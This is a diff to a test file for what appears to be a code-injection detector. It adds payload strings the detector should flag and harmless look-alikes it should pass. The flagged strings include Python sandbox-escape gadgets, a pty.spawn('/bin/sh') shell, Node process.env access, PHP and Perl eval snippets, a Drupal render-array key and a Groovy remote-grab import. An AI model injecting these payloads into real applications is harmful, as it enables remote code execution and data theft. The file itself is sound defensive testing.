@@ -157,6 +157,25 @@ describe('code injection', () => {
     `io.popen('id')`,
     `=cmd|' /C calc'!A0`,
     `<cfexecute name="id"/>`,
+    // What leads from any value to the interpreter, or tells whether it runs.
+    'abs.__self__',
+    'str.__objclass__',
+    '(y for y in [1]).gi_frame.f_globals',
+    'try:1/0\nexcept Exception as e:e.__traceback__.tb_frame.f_builtins',
+    "__spec__.loader.load_module('os')",
+    "__builtins__.__dict__['exec']('1')",
+    'from os import system as __getattr__;from __main__ import ls',
+    "import socket, pty;pty.spawn('/bin/sh')",
+    "global['require']('net')",
+    '(function(){return process.env})()',
+    '"+(()=>6*7)()+"',
+    'Error.prepareStackTrace=(e,s)=>s[0].getThis().process',
+    'die(print(12));',
+    'echo 12;exit;',
+    'eval "system \'ls\'"',
+    'execute(request("q"))',
+    'mail[#post_render][]',
+    "@GrabResolver(name='a', root='http://a.example')\nimport B",
   ])('finds %s', (value) => {
     expect(detectIn(codei, value)).toMatch(/medium|high/);
   });
@@ -253,6 +272,19 @@ describe('code injection', () => {
     `the (~5 %) rate`,
     `Type.GetType()`,
     `{{> header}}<%= user.name %>`,
+    'self.__name__',
+    'frame.frame_id',
+    'the tb_frame of a traceback says where it was',
+    'const f = () => items.length',
+    '(function () { return 1; })',
+    'import os.path',
+    'echo 12',
+    'execute(request)',
+    'from os import path as p',
+    'eval "the model"',
+    'print(abs(x)) and then die',
+    'post_render runs after pre_render',
+    'colour[#fff]',
   ])('lets %s pass', (value) => {
     expect(detectIn(codei, value) ?? 'low').toBe('low');
   });
